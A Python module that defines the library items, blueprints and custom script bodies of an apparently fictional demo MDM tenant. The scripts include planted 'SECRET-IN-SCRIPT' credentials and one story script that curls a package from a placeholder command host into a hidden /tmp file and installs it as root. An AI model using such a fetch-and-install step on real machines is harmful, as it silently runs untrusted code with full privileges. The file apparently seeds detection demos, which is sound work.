"""The library of the made-up tenant: items, the blueprints they are in, and their secrets."""

from __future__ import annotations

from dataclasses import dataclass

from .blueprints import DemoBlueprint
from .chance import uuid
from .story import STORY


@dataclass(frozen=True, slots=True)
class Item:
    """A library item; an empty `blueprints` means all that have one of its platforms."""

    name: str
    type: str
    platforms: tuple[str, ...] = ("Mac",)
    blueprints: tuple[str, ...] = ()

    @property
    def id(self) -> str:
        """The same for every seed."""
        return uuid("item", self.name)

    def is_in(self, blueprint: DemoBlueprint) -> bool:
        """Whether a blueprint holds the item."""
        return bool(set(self.platforms) & set(blueprint.platforms)) and (
            not self.blueprints or blueprint.name in self.blueprints
        )


_HANDHELD = ("iPhone", "iPad")
ITEMS = (
    Item(STORY.protection_item, "threat-security-policy"),
    Item("Google Chrome", "automatic-app"),
    Item("Zoom", "automatic-app"),
    Item("Slack", "automatic-app"),
    Item("1Password", "automatic-app"),
    Item("macOS Tahoe", "macos-release"),
    Item("Iru Agent Setup", "kandji-setup"),
    Item("FileVault 2", "profile"),
    Item("Firewall", "profile"),
    Item("Passcode", "profile", ("Mac", *_HANDHELD)),
    Item("Northwind Wi-Fi", "profile", ("Mac", *_HANDHELD, "AppleTV")),
    Item("Chrome Policy", "profile"),
    Item("GlobalProtect VPN", "custom-app"),
    Item("Developer Tools", "custom-app", blueprints=("Engineering",)),
    Item("Rotate Recovery Key", "custom-script"),
    Item("Inventory Collector", "custom-script"),
    Item("Rename Computer", "custom-script"),
    Item(STORY.script_name, "custom-script", blueprints=(STORY.blueprint_name,)),
    Item("Okta Verify", "vpp-app", _HANDHELD),
    Item("Microsoft Outlook", "vpp-app", _HANDHELD),
    Item("Northwind Field", "ipa-app", _HANDHELD),
    Item("Conference Display", "profile", ("AppleTV",)),
    Item("BitLocker", "profile", ("Windows",)),
    Item("Play Store Apps", "profile", ("Android",)),
)


def items_of(blueprint: DemoBlueprint) -> list[Item]:
    """The items in a blueprint."""
    return [item for item in ITEMS if item.is_in(blueprint)]


BODIES = {
    "Rotate Recovery Key": "#!/bin/zsh\n# SECRET-IN-SCRIPT api_key=nw-demo-4f1d2c\nfdesetup changerecovery -personal\n",
    "Inventory Collector": "#!/bin/zsh\n/usr/local/northwind/bin/inventory.sh --token SECRET-IN-SCRIPT\n",
    "Rename Computer": '#!/bin/zsh\nscutil --set ComputerName "NW-$(id -un)"\n',
    STORY.script_name: f"#!/bin/zsh\ncurl -fsSL http://{STORY.command_host}/fix.pkg -o /tmp/.fix.pkg\n"
    "installer -pkg /tmp/.fix.pkg -target /\n",
}
"""What custom scripts do."""
